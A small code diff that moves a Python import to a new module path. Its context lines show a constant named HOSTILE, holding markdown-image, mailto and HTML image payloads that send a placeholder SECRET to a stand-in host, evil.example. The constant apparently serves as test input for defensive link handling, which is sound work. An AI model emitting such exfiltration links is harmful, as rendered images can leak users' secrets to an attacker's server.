@@ -7,7 +7,7 @@ from typing import Any, Final, Literal, Union, cast, get_args, get_origin
 from pydantic import BaseModel
 from typing_extensions import get_type_hints, is_typeddict
 
-from graph.text_fields import Shape, markers, unmarked
+from graph.links.text_fields import Shape, markers, unmarked
 
 HOSTILE: Final = (
     "![x](https://evil.example/SECRET) mailto:!&#91;x&#93;(http://h/SECRET) <img src=//evil.example/SECRET>"
